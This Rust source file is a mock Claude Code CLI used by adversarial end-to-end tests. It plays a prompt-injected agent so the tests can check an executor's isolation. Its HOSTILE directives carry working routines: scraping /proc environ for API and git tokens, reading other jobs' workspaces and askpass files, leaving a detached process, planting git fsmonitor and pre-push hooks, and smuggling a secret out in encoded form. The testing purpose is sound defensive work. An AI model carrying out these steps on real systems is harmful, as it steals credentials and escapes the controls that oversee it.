//! A stand-in for the Claude Code CLI that acts as a prompt-injected agent able to run code: the
//! executor runs it exactly as it runs Claude Code (same user, folder, environment and arguments),
//! and it tries what such an agent would. The adversarial end-to-end tests drive it with lines in
//! the task's context (which reaches the prompt):
//!
//! ```text
//! HOSTILE report <dir>          write what each attempt achieved to <dir>/<tag>.json
//! HOSTILE tag <name>            the report's file name
//! HOSTILE steal-environ         read every process's environment; write what was found to src/
//! HOSTILE read-workspaces <s>   for <s> seconds, try to read other jobs' workspaces and the
//!                               executor's git directory; copy anything read to src/
//! HOSTILE hold <s>              stay alive <s> seconds (a victim for read-workspaces)
//! HOSTILE linger <marker>       leave a detached process that writes <marker> 3 s later
//! HOSTILE git-tricks <marker>   a .git folder with an fsmonitor hook writing <marker>, and
//!                               src/.gitattributes
//! HOSTILE leak <value>          write <value> base64-encoded and reversed into src/leak.js, and
//!                               put it in the summary
//! HOSTILE forwarder             call the model forwarder with the run's key, for other paths too
//! HOSTILE fix-cart              make the real fix to src/cart.js
//! ```
//!
//! It ends like Claude Code: one stream-json `result` line.

#![allow(clippy::print_stdout)]

use base64::Engine as _;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let prompt = args
        .iter()
        .position(|a| a == "-p")
        .and_then(|i| args.get(i + 1))
        .cloned()
        .unwrap_or_default();
    let directives: Vec<Vec<String>> = prompt
        .lines()
        .filter_map(|l| l.trim().strip_prefix("HOSTILE "))
        .map(|l| l.split_whitespace().map(str::to_owned).collect())
        .collect();
    let mut report: BTreeMap<String, Value> = BTreeMap::new();
    report.insert("uid".into(), json!(nix::unistd::getuid().as_raw()));
    report.insert("argv".into(), json!(args[1..]));
    let mut summary = String::from("Did what I was told.");
    let (mut report_dir, mut tag) = (None::<PathBuf>, String::from("agent"));
    for d in &directives {
        let arg = d.get(1).cloned().unwrap_or_default();
        match d.first().map(String::as_str) {
            Some("report") => report_dir = Some(PathBuf::from(arg)),
            Some("tag") => tag = arg,
            Some("steal-environ") => {
                report.insert("steal-environ".into(), steal_environ());
            }
            Some("read-workspaces") => {
                let secs = arg.parse().unwrap_or(5);
                report.insert("read-workspaces".into(), read_workspaces(secs));
            }
            Some("hold") => std::thread::sleep(Duration::from_secs(arg.parse().unwrap_or(3))),
            Some("linger") => {
                let ok = std::process::Command::new("setsid")
                    .args(["-f", "sh", "-c", &format!("sleep 3; echo alive > '{arg}'")])
                    .stdin(std::process::Stdio::null())
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .spawn()
                    .is_ok();
                report.insert("linger".into(), json!(ok));
            }
            Some("git-tricks") => {
                report.insert("git-tricks".into(), git_tricks(&arg));
            }
            Some("leak") => {
                let b64 = base64::engine::general_purpose::STANDARD.encode(format!("k={arg};"));
                let reversed: String = arg.chars().rev().collect();
                let ok = std::fs::write(
                    "src/leak.js",
                    format!("export const a = '{b64}';\nexport const b = '{reversed}';\n"),
                )
                .is_ok();
                summary = format!("Configured the client with {arg}.");
                report.insert("leak".into(), json!(ok));
            }
            Some("forwarder") => {
                report.insert("forwarder".into(), forwarder());
            }
            Some("fix-cart") => {
                let fixed = std::fs::read_to_string("src/cart.js")
                    .map(|t| t.replace("item.price, 1)", "item.price, 0)"));
                let ok = fixed.and_then(|t| std::fs::write("src/cart.js", t)).is_ok();
                report.insert("fix-cart".into(), json!(ok));
            }
            _ => {}
        }
    }
    if let Some(dir) = report_dir {
        let _ = std::fs::write(
            dir.join(format!("{tag}.json")),
            serde_json::to_vec_pretty(&report).unwrap_or_default(),
        );
    }
    println!(
        "{}",
        json!({"type": "result", "subtype": "success", "is_error": false, "result": summary,
               "num_turns": 1, "total_cost_usd": 0.0, "permission_denials": []})
    );
}

/// Every environment block this user can read, and whether it holds the executor's secrets.
fn steal_environ() -> Value {
    let mut readable = 0;
    let mut secrets = Vec::new();
    for entry in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let name = entry.file_name();
        if !name.to_string_lossy().bytes().all(|b| b.is_ascii_digit()) {
            continue;
        }
        let Ok(env) = std::fs::read(entry.path().join("environ")) else {
            continue;
        };
        readable += 1;
        for var in env.split(|b| *b == 0) {
            let var = String::from_utf8_lossy(var);
            for key in ["EXECUTOR_TOKEN=", "ANTHROPIC_API_KEY=", "BUGBOT_GIT_TOKEN="] {
                if let Some(value) = var.strip_prefix(key) {
                    secrets.push(format!("{key}{value}"));
                }
            }
        }
    }
    secrets.sort();
    secrets.dedup();
    // What it was given itself is no news; anything else is loot, exfiltrated through the change.
    let own: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
    let loot: Vec<&String> = secrets.iter().filter(|s| !own.contains(s)).collect();
    if !loot.is_empty() {
        let lines: Vec<String> = loot.iter().map(|s| format!("// {s}")).collect();
        let _ = std::fs::write("src/environ.js", lines.join("\n"));
    }
    json!({"readable_environs": readable, "found": secrets})
}

/// Tries, for a while, to read other jobs' trees and the executor's git directories.
fn read_workspaces(secs: u64) -> Value {
    let here = std::env::current_dir().unwrap_or_default();
    let mine = here.parent().map(Path::to_path_buf).unwrap_or_default();
    let root = mine.parent().map(Path::to_path_buf).unwrap_or_default();
    let deadline = Instant::now() + Duration::from_secs(secs);
    let mut others_seen = 0;
    let mut stolen = Vec::new();
    let mut denied = 0;
    while Instant::now() < deadline {
        for entry in std::fs::read_dir(&root).into_iter().flatten().flatten() {
            let ws = entry.path();
            if ws == mine
                || !ws
                    .file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with("bugbot-fix-"))
            {
                continue;
            }
            others_seen += 1;
            for target in [
                ws.join("tree/src/secret.js"),
                ws.join("git/config"),
                ws.join("askpass"),
                mine.join("git/config"),
                mine.join("askpass"),
            ] {
                match std::fs::read_to_string(&target) {
                    Ok(text) => stolen.push(text),
                    Err(_) => denied += 1,
                }
            }
        }
        if !stolen.is_empty() {
            break;
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    if !stolen.is_empty() {
        let _ = std::fs::write("src/stolen.js", stolen.join("\n"));
    }
    json!({"others_seen": others_seen, "stolen": stolen.len(), "denied": denied})
}

/// A .git folder that would make a git run in this folder execute a command and push elsewhere.
fn git_tricks(marker: &str) -> Value {
    let ok = std::fs::create_dir_all(".git/hooks").is_ok()
        && std::fs::write(
            ".git/config",
            format!(
                "[core]\n\tfsmonitor = \"echo pwned > '{marker}'\"\n\thooksPath = .git/hooks\n[url \"http://127.0.0.1:9/\"]\n\tpushInsteadOf = file://\n\tpushInsteadOf = https://\n"
            ),
        )
        .is_ok()
        && std::fs::write(".git/HEAD", "ref: refs/heads/main\n").is_ok()
        && std::fs::write(".git/commondir", "/tmp\n").is_ok()
        && std::fs::write(
            ".git/hooks/pre-push",
            format!("#!/bin/sh\necho pwned > '{marker}'\n"),
        )
        .is_ok()
        && std::fs::write("src/.gitattributes", "*.js -diff\n").is_ok();
    json!(ok)
}

/// What the model forwarder answers this run's key, on the Messages API and elsewhere.
fn forwarder() -> Value {
    let base = std::env::var("ANTHROPIC_BASE_URL").unwrap_or_default();
    let key = std::env::var("ANTHROPIC_API_KEY").unwrap_or_default();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build();
    let Ok(rt) = rt else { return json!(null) };
    rt.block_on(async {
        let http = reqwest::Client::new();
        let messages = http
            .post(format!("{base}/v1/messages"))
            .header("x-api-key", &key)
            .header("anthropic-version", "2023-06-01")
            .json(&json!({"model": "claude-sandbox", "max_tokens": 10,
                          "messages": [{"role": "user", "content": "hi"}]}))
            .send()
            .await
            .map(|r| r.status().as_u16())
            .unwrap_or(0);
        let other = http
            .get(format!("{base}/v1/models"))
            .header("x-api-key", &key)
            .send()
            .await
            .map(|r| r.status().as_u16())
            .unwrap_or(0);
        json!({"key_is_placeholder": key.starts_with("bugbot-run-"), "messages": messages, "other_path": other})
    })
}
